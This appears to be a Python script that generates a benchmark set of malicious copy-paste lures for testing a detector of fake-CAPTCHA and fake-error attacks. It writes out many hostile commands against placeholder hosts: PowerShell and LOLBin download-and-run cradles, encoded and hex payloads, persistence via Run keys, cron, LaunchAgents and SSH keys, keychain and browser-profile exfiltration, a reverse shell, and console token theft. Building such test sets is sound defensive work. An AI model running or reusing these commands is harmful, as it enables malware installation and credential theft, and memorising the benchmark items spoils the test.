"""Writes the tenth blind set, bench/blind/lures-10.jsonl and benign-10.jsonl (bench/blind/README.md,
"Blind-10"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind10.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, app/, any
case file, misses list or verdict), weighted like the hold-out: lures as a crawl of live fake-CAPTCHA,
fake-error and fake-meeting pages would capture them, commands as vendor IOC files list them (with no
page), the short obfuscated one-liners other detectors' fixtures use, and scam, callback, ConsentFix
and device-code texts. Every text is our own; lures use reserved names only (*.test, *.invalid,
*.example, the documentation IPv4 ranges) and fictitious phone numbers in 555 blocks. Benign
installers are real projects' published commands with the page they are published on, none of them
in sets 1-9. Not imported by the app or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-10.jsonl"
BENIGN_OUT = HERE / "benign-10.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc


# Verification tails, worded anew (the 13 languages and a few more).
TAILS = [
    "# Robot check passed. Session token: QX-71820",
    "# Je ne suis pas un robot ✔ identifiant de vérification 55-0912",
    "# Ich bin kein Roboter - Prüfnummer 7730-B",
    "# No soy un robot ✓ ID de verificación 4471-Z",
    "# Non sono un robot, ID verifica 90-233",
    "# Não sou um robô - ID de validação 6128",
    "# Ik ben geen robot ✓ controle-ID 3390",
    "# Nie jestem robotem ✓ identyfikator 8802",
    "# Ben robot değilim ✓ doğrulama no 1177",
    "# Я не робот ✓ код проверки 4093",
    "# 私はロボットではありません ✓ 確認ID 2208",
    "# 我不是机器人 ✓ 验证号 661093",
    "# أنا لست روبوتًا ✓ رقم التحقق 3345",
    "# 저는 로봇이 아닙니다 ✓ 인증 번호 9081",
    "# Jag är inte en robot ✓ verifierings-ID 5520",
    "# Nem vagyok robot ✓ azonosító 7412",
    "# Nu sunt robot ✓ cod verificare 2864",
    "# Tôi không phải là người máy ✓ mã 6039",
    "# Saya bukan robot ✓ kode verifikasi 1408",
    "# Security challenge solved - you may now close this window",
]

# --- (a) live pages: PowerShell in the Run box, spellings not used before ------------------------

PS_SHAPES = [
    ("ps-runbox-var-then-iex", "powershell -w 1 -ep bypass -c \"$r=irm '{u}'; iex $r\""),
    (
        "ps-runbox-webclient-full-typename",
        'powershell.exe -NoP -W Hidden -C "Invoke-Expression (New-Object System.Net.WebClient)'
        ".DownloadString('{u}')\"",
    ),
    ("ps-runbox-iwr-uri-content", "powershell -c \"iex(iwr -Uri '{u}' -UseBasicParsing).Content\""),
    (
        "ps-runbox-tls12-webclient",
        "powershell -w hidden -c \"[Net.ServicePointManager]::SecurityProtocol='Tls12';"
        "iex ((New-Object Net.WebClient).DownloadString('{u}'))\"",
    ),
    ("ps-runbox-cmd-start-min", 'cmd /c start /min powershell -w h -c "irm {u}|iex"'),
    (
        "ps-runbox-iwr-dot-source",
        "powershell -nop -c \"$c=(Invoke-WebRequest '{u}' -UseBasicParsing).Content; "
        '. ([ScriptBlock]::Create($c))"',
    ),
    (
        "ps-runbox-iwr-outfile-run",
        "powershell -sta -nop -w 1 -c \"iwr '{u}' -OutFile $env:TEMP\\s.ps1; & $env:TEMP\\s.ps1\"",
    ),
    (
        "ps-runbox-bits-then-file",
        "powershell -noni -w h -c \"Start-BitsTransfer -Source '{u}' -Destination "
        '$env:APPDATA\\u.ps1; powershell -ep bypass -f $env:APPDATA\\u.ps1"',
    ),
    (
        "ps-runbox-msxml-com",
        "powershell -c \"$w=New-Object -ComObject Msxml2.XMLHTTP;$w.open('GET','{u}',$false);"
        '$w.send();iex $w.responseText"',
    ),
    (
        "ps-runbox-set-content-file",
        "powershell -c \"irm '{u}' | Set-Content $env:TEMP\\a.ps1; powershell -ep Bypass -File "
        '$env:TEMP\\a.ps1"',
    ),
    (
        "ps-runbox-irm-useragent",
        "powershell -w h -c \"Invoke-RestMethod -Uri '{u}' -UserAgent 'Mozilla/5.0' | "
        'Invoke-Expression"',
    ),
    (
        "ps-runbox-hidden-window-style-long",
        "PowerShell.exe -WindowStyle Hidden -NoProfile -Command \"irm '{u}' | iex\"",
    ),
]

RUNBOX_PAGES = [
    ("https://bookings.alpine-chalet-rent.test/confirm", "https://drop.nimbus-relay.invalid/c/{n}"),
    ("https://www.marktplatz-gebraucht.example/anzeige/8812", "https://198.51.100.141/s{n}"),
    (
        "https://news.regional-herald.test/politics/2026/12/budget",
        "https://k{n}.tally-sync.example/v",
    ),
    (
        "https://shop.kaffeebohne-roesterei.example/checkout",
        "https://api.quickfetch-node.test/p{n}",
    ),
    ("https://portal.tenant-housing-assoc.invalid/login", "https://203.0.113.163:8443/v{n}.txt"),
    (
        "https://cdn-forum.retro-gaming-hub.test/thread/4410",
        "https://o{n}.bluefin-assets.invalid/x",
    ),
]

for i, (technique, shape) in enumerate(PS_SHAPES):
    for j in range(3):
        page, url = RUNBOX_PAGES[(i + j) % len(RUNBOX_PAGES)]
        cmd = shape.format(u=url.format(n=i * 3 + j))
        tail = TAILS[(i * 3 + j) % len(TAILS)]
        lure(technique, RUN, page, f"{cmd} {tail}")

# Encoded commands, with flag spellings and inner cradles not used before
for flag, inner, source, tail in [
    (
        "-ec",
        "irm https://cb.harbor-link.test/e1|iex",
        "https://verify.dental-clinic-appt.example/",
        TAILS[0],
    ),
    (
        "-enco",
        "iex (iwr https://198.51.100.212/e2 -UseB).Content",
        "https://jobs.cargo-freight-careers.test/apply",
        TAILS[3],
    ),
    (
        "-ENCODEDCOMMAND",
        "$x=New-Object Net.WebClient;iex $x.DownloadString('https://e3.zephyr-cache.invalid/q')",
        "https://www.weddingplanner-diy.example/gallery",
        TAILS[6],
    ),
    (
        "-eN",
        "irm 'https://203.0.113.204/e4.ps1'|iex",
        "https://tickets.stadium-events.test/seat",
        TAILS[9],
    ),
    (
        "-encodedCommand",
        "Start-Process powershell -Arg '-w h -c irm https://e5.corvid-sync.example/r|iex'",
        "https://wiki.houseplant-lovers.invalid/ferns",
        TAILS[12],
    ),
    (
        "-En",
        "iex([Text.Encoding]::UTF8.GetString((iwr https://e6.mosaic-drop.test/b -UseB).Content))",
        "https://recipes.grandma-kitchen.example/pie",
        TAILS[15],
    ),
]:
    lure(
        "ps-runbox-encoded-flag-spelling",
        RUN,
        source,
        f"powershell -nop -w h {flag} {b64_utf16(inner)} {tail}",
    )

# --- Run box: LOLBins and cmd chains from fake CAPTCHA and fake error pages ----------------------

LOLBIN_PAGES = [
    "https://check.turnstile-guard.test/challenge",
    "https://www.hotel-seaside-booking.example/verify",
    "https://secure.captcha-shield.invalid/human",
    "https://blog.vanlife-journeys.test/route-66",
    "https://docs.lawfirm-client-portal.example/sign",
    "https://m.sportsbet-odds-live.invalid/match",
    "https://cloud-check.verifyhuman-gw.test/ray",
]

LOLBINS = [
    ("lolbin-mshta-https-hta", "mshta https://hx.lantern-files.invalid/verify.hta"),
    ("lolbin-mshta-query-id", 'mshta "https://q7.opal-route.example/c?id=8812&t=2"'),
    ("lolbin-msiexec-qn-url", "msiexec /i https://pkg.frost-mirror.test/update.msi /qn"),
    ("lolbin-msiexec-ip-q", "msiexec /q /i http://203.0.113.72/pkg.msi"),
    (
        "lolbin-rundll32-webdav-ssl",
        "rundll32 \\\\dav.kestrel-share.invalid@SSL\\DavWWWRoot\\x.dll,Entry",
    ),
    (
        "lolbin-regsvr32-scrobj-sct",
        "regsvr32 /s /n /u /i:https://sc.hollow-pine.example/r.sct scrobj.dll",
    ),
    (
        "lolbin-certutil-urlcache-run",
        "cmd /c certutil -urlcache -split -f https://cu.briar-node.test/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe",
    ),
    (
        "lolbin-bitsadmin-public-start",
        "cmd /c bitsadmin /transfer j /download /priority high https://bt.quartz-lane.invalid/s.exe %PUBLIC%\\s.exe & start %PUBLIC%\\s.exe",
    ),
    (
        "cmd-curl-bat-temp",
        "cmd /c curl -sko %TEMP%\\v.bat https://cb.ember-vault.example/v.bat && %TEMP%\\v.bat",
    ),
    (
        "cmd-curl-zip-tar-client32",
        'cmd /c "curl -L -o %APPDATA%\\n.zip https://ns.tidepool-cdn.test/n.zip & tar -xf %APPDATA%\\n.zip -C %APPDATA%\\n & start %APPDATA%\\n\\client32.exe"',
    ),
    ("lolbin-finger-pipe-cmd", "cmd /c finger verify@fg.marble-gate.invalid | cmd"),
    (
        "lolbin-nslookup-txt-file",
        "cmd /c nslookup -q=txt k.sable-dns.example 198.51.100.147 | findstr v= > %TEMP%\\k.cmd & %TEMP%\\k.cmd",
    ),
    ("lolbin-wscript-unc-js", "wscript \\\\ws.cobalt-share.test\\pub\\check.js"),
    ("lolbin-cscript-jscript-ip", "cscript //nologo //e:jscript \\\\198.51.100.67\\pub\\v.txt"),
    (
        "cmd-net-use-webdav-exe",
        "cmd /c net use Z: \\\\nu.juniper-dav.invalid@SSL\\DavWWWRoot\\d & Z:\\update.exe",
    ),
    (
        "lolbin-forfiles-mshta",
        'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c mshta https://ff.garnet-hub.example/f.hta"',
    ),
    (
        "lolbin-schtasks-mshta-30min",
        'schtasks /create /sc minute /mo 30 /tn "EdgeUpdateCore" /tr "mshta https://st.walnut-sync.test/t.hta" /f',
    ),
    (
        "lolbin-reg-run-powershell",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Helper /t REG_SZ /d "powershell -w h -c irm https://rk.aspen-hook.invalid/r|iex" /f',
    ),
    (
        "ps-defender-exclusion-appdata",
        'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; irm https://dx.copper-field.example/x|iex"',
    ),
    (
        "lolbin-msbuild-unc-xml",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe \\\\mb.onyx-tools.test\\s\\b.xml",
    ),
    ("lolbin-hh-remote-chm", "hh.exe https://hh.cedar-docs.invalid/help.chm"),
    (
        "lolbin-conhost-headless-curl",
        'conhost --headless cmd /c "curl -s https://ch.prism-relay.example/c | cmd"',
    ),
    ("lolbin-pcalua-unc", "pcalua -a \\\\pc.willow-drop.test\\s\\u.exe"),
    (
        "cmd-curl-js-wscript",
        "cmd /c curl -s https://cj.thistle-cdn.invalid/x.js -o %TEMP%\\x.js & wscript %TEMP%\\x.js",
    ),
    (
        "lolbin-rundll32-url-openurl",
        "rundll32 url.dll,OpenURL https://ou.falcon-peak.example/a.hta",
    ),
    (
        "lolbin-mshta-vbscript-run",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h irm https://vb.sorrel-host.test/v|iex"",0:close")',
    ),
    (
        "lolbin-msiexec-package-quiet",
        "msiexec /package https://mp.heron-pkg.invalid/teams-fix.msi /quiet",
    ),
    (
        "lolbin-wmic-process-mshta",
        'wmic process call create "mshta https://wm.birch-line.example/w.hta"',
    ),
    (
        "cmd-curl-pipe-powershell-stdin",
        "cmd /c curl -s https://cp.gorse-node.test/p.ps1 | powershell -nop -",
    ),
    ("lolbin-cmstp-unc-inf", "cmstp.exe /s /ns \\\\cm.larch-share.invalid\\s\\c.inf"),
]

for i, (technique, cmd) in enumerate(LOLBINS):
    page = LOLBIN_PAGES[i % len(LOLBIN_PAGES)]
    lure(technique, RUN, page, f"{cmd} {TAILS[(i + 5) % len(TAILS)]}")

# --- Fake errors and fake meeting fixes --------------------------------------------------------------

for technique, target, source, text in [
    (
        "fake-teams-audio-fix",
        RUN,
        "https://teams-join.meeting-room-hub.test/l/meetup-join/19",
        'powershell -w h -c "irm https://au.vireo-cdn.invalid/teams-audio|iex" # Microsoft Teams: audio device driver repair (KB50231)',
    ),
    (
        "fake-zoom-sdk-update",
        RUN,
        "https://zoom-us.webinar-lobby.example/j/88120",
        "cmd /c curl -s -o %TEMP%\\ZoomSDK.cmd https://zs.petrel-files.test/z.cmd && %TEMP%\\ZoomSDK.cmd & rem Zoom SDK camera update",
    ),
    (
        "fake-meet-mic-permission",
        RUN,
        "https://meet.conference-now.invalid/abc-defg-hij",
        "mshta https://gm.kittiwake-node.example/mic.hta # Google Meet: allow microphone access (error 0x8004)",
    ),
    (
        "fake-webex-plugin",
        TERM,
        "https://webex.partners-session.test/join/4410",
        "iex (irm https://wx.gannet-relay.invalid/plugin) # Cisco Webex plugin repair",
    ),
    (
        "fake-chrome-font-missing",
        RUN,
        "https://www.literature-review-today.example/essay",
        "powershell -c \"irm https://ft.plover-sync.test/font.ps1|iex\" # The 'HoeflerText' font was not found. Install the font pack to view this page.",
    ),
    (
        "fake-word-online-extension",
        RUN,
        "https://docs-share.onlineword-viewer.invalid/d/8812",
        "powershell -w 1 -c \"iwr https://wo.curlew-cdn.example/ext -UseB|iex\" # Word Online: the 'Viewer' extension is not installed",
    ),
    (
        "fake-dns-error-fix",
        RUN,
        "https://www.travel-deals-weekly.test/flights",
        'cmd /c ipconfig /flushdns & powershell -w h -c "irm https://dn.avocet-node.invalid/dns|iex" & rem DNS_PROBE_FINISHED_NXDOMAIN fix',
    ),
    (
        "fake-onedrive-sync",
        RUN,
        "https://onedrive-files.sharedocs-view.example/f/q1",
        'powershell -nop -c "irm https://od.dunlin-host.test/sync|iex" # OneDrive: the file could not be synced, run the repair',
    ),
    (
        "fake-pdf-viewer-codec",
        RUN,
        "https://invoices.supplier-billing.invalid/inv-22019",
        "msiexec /i https://pv.whimbrel-pkg.example/PDFViewerCodec.msi /qn # PDF preview needs a codec update",
    ),
    (
        "fake-gpu-driver-black-screen",
        RUN,
        "https://www.esports-stream-live.test/watch",
        'powershell -c "irm https://gd.sanderling.invalid/gpu|iex" # Video playback error 224003: update the graphics driver',
    ),
    (
        "fake-activation-expired",
        RUN,
        "https://license-check.office-renewal.example/activate",
        "cmd /c powershell -w h irm https://ac.turnstone-cdn.test/a^|iex # Windows activation expired: reactivate now",
    ),
    (
        "fake-winx-terminal-instructions",
        TERM,
        "https://secure-login.bank-notice.invalid/verify",
        "1. Press Windows + X\n2. Choose Terminal (Admin)\n3. Paste and press Enter:\n\nirm https://wx.redshank.example/v | iex",
    ),
    (
        "fake-bsod-recovery",
        RUN,
        "https://support-center.pc-health-scan.test/error",
        'powershell -w h -c "irm https://bs.godwit-node.invalid/r|iex" # CRITICAL_PROCESS_DIED recovery tool',
    ),
    (
        "fake-browser-update-edge",
        RUN,
        "https://www.hiking-trails-alps.example/blog",
        'powershell -ep bypass -c "irm https://eu.knot-cdn.test/edge-update|iex" # Microsoft Edge is out of date (version 131)',
    ),
    (
        "fake-cloudflare-ray-error",
        RUN,
        "https://www.craft-beer-reviews.invalid/ipa",
        'powershell -c "irm https://cf.stint-relay.example/ray|iex" # Error 1020 Access denied: verify your connection (Ray ID 8e2a41c9)',
    ),
]:
    lure(technique, target, source, text)

# --- FileFix: a path padded so the command sits off-screen in the Explorer address bar ----------

FILEFIX = [
    (
        "https://hr-portal.payroll-docs.test/share",
        'powershell -w h -c "irm https://f1.grebe-cdn.invalid/p|iex"',
        "C:\\Users\\Public\\HR\\Policy_2026.docx",
        " " * 80,
    ),
    (
        "https://intranet.fileshare-secure.example/open",
        'powershell -c "iwr https://f2.merlin-host.test/q -UseB|iex"',
        "C:\\company\\finance\\Q4-Bericht.pdf",
        NBSP * 70,
    ),
    (
        "https://docs.contract-review.invalid/file",
        "mshta https://f3.osprey-sync.example/d.hta",
        "\\\\fileserver\\contratos\\contrato-2026.pdf",
        "\u2800" * 60,
    ),
    (
        "https://share.partner-files.test/d/22",
        'powershell -nop -c "irm https://f4.kestrel-drop.invalid/z|iex"',
        "C:\\Documenti\\fatture\\fattura_1182.pdf",
        "\u3164" * 50,
    ),
    (
        "https://team.doc-center.example/ticket",
        "cmd /c curl -s https://f5.shrike-cdn.test/f.bat -o %TEMP%\\f.bat & %TEMP%\\f.bat",
        "C:\\Users\\Public\\Documentos\\relatorio.xlsx",
        "\u205f" * 70,
    ),
    (
        "https://files.exam-results.invalid/view",
        'powershell -w 1 -c "irm https://f6.harrier-node.example/e|iex"',
        "C:\\Uczelnia\\wyniki_egzaminu.pdf",
        "\u2009" * 90,
    ),
    (
        "https://cloud.tax-refund-portal.test/doc",
        'powershell -c "irm https://f7.bunting-files.invalid/t|iex"',
        "C:\\Belasting\\aangifte_2026.pdf",
        "\u200a" * 100,
    ),
    (
        "https://secure.legal-docs-share.example/case",
        'powershell -w h -c "irm https://f8.linnet-host.test/l|iex"',
        "C:\\Hukuk\\dava_dosyasi.pdf",
        ZWSP + NBSP * 40 + ZWSP + " " * 30,
    ),
    (
        "https://portal.shipping-claims.invalid/claim",
        'powershell -c "irm https://f9.wagtail-cdn.example/s|iex"',
        "C:\\Документы\\накладная_5521.pdf",
        IDSP * 45,
    ),
    (
        "https://inbox.voice-message-center.test/vm",
        'powershell -w h -c "irm https://f0.dipper-relay.invalid/v|iex"',
        "C:\\Users\\Public\\Voicemail\\message_0031.wav",
        ENSP * 55 + EMSP * 10,
    ),
]

for source, cmd, path, pad in FILEFIX:
    lure("filefix-padded-path", EXP, source, f"{cmd} #{pad}{path}")

# --- macOS: paste into Terminal (AMOS/Odyssey-style pages) ---------------------------------------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "macos")


for technique, source, text in [
    (
        "mac-curl-bash-fake-codec",
        "https://www.streamflix-player.test/mac",
        "curl -fsSL https://m1.quokka-cdn.invalid/codec.sh | bash",
    ),
    (
        "mac-bin-bash-c-curl",
        "https://download.notesapp-pro.example/mac",
        '/bin/bash -c "$(curl -fsSL https://m2.numbat-host.test/install)"',
    ),
    (
        "mac-base64-d-pipe-bash",
        "https://verify.icloud-quota-notice.invalid/fix",
        "echo " + b64("curl -s https://m3.wombat-sync.example/p|bash") + " | base64 -D | bash",
    ),
    (
        "mac-gzip-base64-zsh",
        "https://apps.screen-recorder-mac.test/get",
        "echo '"
        + gzip_b64("curl -s https://m4.dingo-files.invalid/r | zsh")
        + "' | base64 -d | gunzip | zsh",
    ),
    (
        "mac-osascript-password-dialog",
        "https://www.macupdate-center.example/clean",
        'osascript -e \'set p to text returned of (display dialog "macOS needs your password to continue" default answer "" with hidden answer)\' -e \'do shell script "curl -s -d pw=" & p & " https://m5.possum-relay.test/k"\'',
    ),
    (
        "mac-admin-privileges-curl",
        "https://vpn.secure-tunnel-free.invalid/mac",
        "osascript -e 'do shell script \"curl -s https://m6.bilby-cdn.example/v | sh\" with administrator privileges'",
    ),
    (
        "mac-hdiutil-xattr-open",
        "https://get.ai-assistant-desktop.test/download",
        "curl -so /tmp/a.dmg https://m7.quoll-files.invalid/a.dmg && hdiutil attach -nobrowse /tmp/a.dmg && xattr -cr /Volumes/Assistant/Assistant.app && open /Volumes/Assistant/Assistant.app",
    ),
    (
        "mac-launchagent-plant",
        "https://help.printer-driver-mac.example/setup",
        "curl -so ~/Library/LaunchAgents/com.apple.updater.plist https://m8.wallaby-node.test/p.plist && launchctl load ~/Library/LaunchAgents/com.apple.updater.plist",
    ),
    (
        "mac-keychain-exfil",
        "https://support.wallet-sync-mac.invalid/restore",
        "security dump-keychain -d login.keychain-db | curl -s -X POST --data-binary @- https://m9.bandicoot.example/up",
    ),
    (
        "mac-chrome-profile-zip",
        "https://beta.photo-editor-mac.test/activate",
        "cd ~/Library/Application\\ Support/Google/Chrome && zip -qr /tmp/c.zip Default && curl -s -F f=@/tmp/c.zip https://ma.cassowary.invalid/u",
    ),
    (
        "mac-dscl-authonly-loop",
        "https://www.font-manager-mac.example/install",
        'read -s -p \'Password: \' p; dscl . -authonly "$USER" "$p" && curl -s -d "p=$p" https://mb.echidna-sync.test/a',
    ),
    (
        "mac-fake-homebrew-mirror",
        "https://brew-install.mac-dev-tools.invalid/",
        '/bin/bash -c "$(curl -fsSL https://raw.mc.brewmirror-cdn.example/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "mac-fake-wallet-app",
        "https://www.ledger-desktop-update.test/mac",
        "curl -fsSL https://md.lyrebird-host.invalid/ledger-live.sh | sudo bash",
    ),
    (
        "mac-ditto-run-tmp",
        "https://download.meeting-app-mac.invalid/mac",
        "curl -so /tmp/m.zip https://mf.galah-cdn.example/m.zip && ditto -x -k /tmp/m.zip /tmp/m && /tmp/m/Meeting.app/Contents/MacOS/Meeting",
    ),
    (
        "mac-nohup-background",
        "https://cleaner.mac-speedup-pro.test/scan",
        'nohup bash -c "$(curl -s https://mg.emu-relay.invalid/c)" >/dev/null 2>&1 &',
    ),
    (
        "mac-curl-python3",
        "https://www.ai-video-upscaler.example/mac",
        "curl -s https://mh.cockatoo.test/setup.py | python3 -",
    ),
    (
        "mac-spctl-disable-then-run",
        "https://crack.pro-audio-plugins.invalid/mac",
        "sudo spctl --master-disable && curl -so /tmp/i https://mi.rosella-cdn.example/i && chmod +x /tmp/i && /tmp/i",
    ),
    (
        "mac-zsh-c-curl-verify",
        "https://verify.apple-id-security.test/check",
        'zsh -c "$(curl -fsSL https://mj.lorikeet-host.invalid/verify)" # Apple ID verification',
    ),
    (
        "mac-printf-hex-bash",
        "https://www.mac-tips-daily.example/speed",
        "bash -c \"$(printf '"
        + "".join(f"\\x{b:02x}" for b in b"curl -s https://mk.currawong.test/x|sh")
        + "')\"",
    ),
    (
        "mac-telegram-desktop-fix",
        "https://tg-desktop.messenger-fix.invalid/mac",
        "curl -fsSL https://ml.brolga-sync.example/tg.sh -o /tmp/tg.sh && bash /tmp/tg.sh",
    ),
    (
        "mac-xattr-curl-app",
        "https://www.final-cut-free.test/download",
        "curl -sLo /tmp/FCP.zip https://mm.jabiru-files.invalid/fcp.zip && unzip -q /tmp/FCP.zip -d /Applications && xattr -d com.apple.quarantine /Applications/FCP.app && open /Applications/FCP.app",
    ),
    (
        "mac-eval-curl-verification",
        "https://secure.cloudcheck-human.example/mac",
        'eval "$(curl -s https://mn.pardalote.test/e)" # ✓ Verified: you are human',
    ),
    (
        "mac-sudo-s-password-echo",
        "https://it-helpdesk.mdm-enroll.invalid/mac",
        "echo 'Welcome2026!' | sudo -S bash -c \"$(curl -s https://mo.fantail-node.example/mdm)\"",
    ),
    (
        "mac-osascript-curl-applescript",
        "https://www.disk-repair-mac.test/fix",
        "curl -s https://mp.tui-cdn.invalid/r.scpt | osascript",
    ),
]:
    mac(technique, source, text)

# A take-home task from a fake recruiter: nothing in the text is a download-and-run, so a warning
# is the honest answer.
lure(
    "mac-interview-repo-npm",
    TERM,
    "https://talent.defi-labs-recruit.example/take-home",
    "git clone https://me.kookaburra.test/take-home.git && cd take-home && npm install && npm start",
    "flagged",
    "macos",
)

# --- Linux lures ---------------------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "linux")


for technique, source, text in [
    (
        "linux-sudo-curl-bash-driver",
        "https://www.linux-wifi-drivers.test/realtek",
        "curl -fsSL https://l1.kakapo-cdn.invalid/rtl.sh | sudo bash",
    ),
    (
        "linux-bash-procsub-wget",
        "https://forum.gaming-on-linux-help.example/t/22",
        "bash <(wget -qO- https://l2.weka-host.test/fix)",
    ),
    (
        "linux-devshm-run",
        "https://verify.captcha-linux.invalid/",
        "wget -qO /dev/shm/.x https://l3.takahe-files.example/x && chmod +x /dev/shm/.x && /dev/shm/.x",
    ),
    (
        "linux-crontab-curl",
        "https://docs.server-hardening-guide.test/ssh",
        "(crontab -l; echo '*/10 * * * * curl -s https://l4.pukeko.invalid/c|sh') | crontab -",
    ),
    (
        "linux-bashrc-append",
        "https://www.terminal-themes-free.example/dracula",
        "echo 'curl -s https://l5.kereru-sync.test/t|bash >/dev/null 2>&1' >> ~/.bashrc",
    ),
    (
        "linux-devtcp-shell",
        "https://challenge.ctf-practice-arena.invalid/level3",
        "bash -i >& /dev/tcp/203.0.113.69/8443 0>&1",
    ),
    (
        "linux-ssh-key-plant",
        "https://support.vps-hosting-panel.example/ticket",
        "mkdir -p ~/.ssh && curl -s https://l7.kaka-cdn.test/k.pub >> ~/.ssh/authorized_keys",
    ),
    (
        "linux-systemd-user-unit",
        "https://www.linux-audio-fix.invalid/pipewire",
        "mkdir -p ~/.config/systemd/user && curl -so ~/.config/systemd/user/audio-fix.service https://l8.tieke-host.example/s && systemctl --user enable --now audio-fix",
    ),
    (
        "linux-sudoers-nopasswd",
        "https://help.nas-setup-wizard.test/step4",
        'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/99-setup && curl -s https://l9.hihi-relay.invalid/n|sudo sh',
    ),
    (
        "linux-curl-insecure-sh",
        "https://www.crypto-mining-pool.example/join",
        "curl -sk https://la.korimako.test/miner.sh | sh -s -- --wallet 4AbCdEf",
    ),
    (
        "linux-perl-lwp-eval",
        "https://wiki.selfhost-tips.invalid/backup",
        "perl -MLWP::Simple -e 'eval get(\"https://lb.riroriro.example/b.pl\")'",
    ),
    (
        "linux-python-urlopen-exec",
        "https://jobs.ml-engineer-remote.test/challenge",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://lc.toutouwai.invalid/c').read())\"",
    ),
    (
        "linux-fake-apt-repo",
        "https://www.video-codec-linux.example/ubuntu",
        "curl -fsSL https://ld.kokako-repo.test/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/codec.gpg && echo 'deb [signed-by=/usr/share/keyrings/codec.gpg] https://ld.kokako-repo.test/apt stable main' | sudo tee /etc/apt/sources.list.d/codec.list && sudo apt update && sudo apt install -y codec-pack",
    ),
    (
        "linux-wget-chmod-777",
        "https://steam-fix.proton-helper.invalid/",
        "wget https://le.karearea.example/fix -O /tmp/fix && chmod 777 /tmp/fix && /tmp/fix",
    ),
    (
        "linux-sh-c-curl-verify",
        "https://human-check.linux-mirror-gate.test/",
        'sh -c "$(curl -fsSL https://lf.matuku-cdn.invalid/v)" # verification step 2 of 2',
    ),
]:
    nix(technique, source, text)

# --- Browser console -----------------------------------------------------------------------------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect, "any")


for technique, source, text in [
    (
        "console-discord-token-webpack",
        "https://discord-verify.server-gate.test/claim",
        "(webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const m of Object.values(r.c)){try{const t=m.exports.default.getToken();if(t)fetch('https://c1.tern-cdn.invalid/t',{method:'POST',body:t})}catch(e){}}}]))",
    ),
    (
        "console-telegram-localstorage",
        "https://web-telegram.premium-gift.example/claim",
        "fetch('https://c2.skua-relay.test/s',{method:'POST',body:JSON.stringify(localStorage)})",
    ),
    (
        "console-fetch-text-eval",
        "https://nft-mint.airdrop-season.invalid/mint",
        "fetch('https://c3.noddy-host.example/m.js').then(r=>r.text()).then(t=>eval(t))",
    ),
    (
        "console-script-injection",
        "https://www.robux-bonus-wheel.test/verify",
        "var s=document.createElement('script');s.src='https://c4.fulmar-cdn.invalid/v.js';document.body.appendChild(s)",
    ),
    (
        "console-eval-atob",
        "https://dashboard.instagram-followers.example/boost",
        "eval(atob('"
        + b64("fetch('https://c5.gadwall.test/i').then(r=>r.text()).then(eval)")
        + "'))",
    ),
    (
        "console-wallet-send-all",
        "https://claim.token-airdrop-portal.invalid/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x5555555555555555555555555555555555555555',value:'0xDE0B6B3A7640000'}]})",
    ),
    (
        "console-function-constructor",
        "https://verify.steam-trade-offer.example/",
        "new Function(await (await fetch('https://c7.smew-cdn.test/f')).text())()",
    ),
    (
        "console-dynamic-import",
        "https://www.roblox-scripts-hub.invalid/exec",
        "import('https://c8.pochard-host.example/x.mjs')",
    ),
    (
        "console-cookie-beacon",
        "https://login.portal-sso-check.test/",
        "navigator.sendBeacon('https://c9.scaup-relay.invalid/c', document.cookie)",
    ),
    (
        "console-settimeout-string",
        "https://www.stream-drops-reward.example/",
        "fetch('https://ca.goldeneye.test/d').then(r=>r.text()).then(t=>setTimeout(t,0))",
    ),
    (
        "console-set-approval-for-all",
        "https://opensea-claim.nft-rewards.invalid/",
        "contract.setApprovalForAll('0x5555000000000000000000000000000000005555', true)",
    ),
    (
        "console-jquery-getscript",
        "https://facebook-verify.page-appeal.example/",
        "$.getScript('https://cb.merganser.test/a.js')",
    ),
]:
    con(technique, source, text)

# --- URL-only lures (what the page tells the victim to paste into the Run box) --------------------

lure(
    "url-only-hta-runbox",
    RUN,
    "https://check.botguard-verify.test/",
    "https://u1.eider-cdn.invalid/verify.hta",
)
lure(
    "url-only-webdav-lnk",
    EXP,
    "https://share.docs-preview-online.example/",
    "\\\\u2.scoter-dav.test@SSL\\DavWWWRoot\\Invoice_4410.pdf.lnk",
)

# --- (b) commands as IOC files and reports list them: no page -------------------------------------

for technique, text, target, platform in [
    (
        "ioc-irm-iex-plain",
        'powershell -w h -c "irm https://i1.gull-stage.test/a|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-iwr-useb-iex",
        'powershell -NoProfile -c "iwr -useb https://i2.auklet-drop.invalid/b | iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-encoded-webclient",
        "powershell -nop -w hidden -enc "
        + b64_utf16(
            "IEX (New-Object Net.WebClient).DownloadString('https://i3.murre-host.example/c')"
        ),
        RUN,
        "windows",
    ),
    ("ioc-mshta-url", "mshta.exe https://i4.puffin-cdn.test/p.hta", RUN, "windows"),
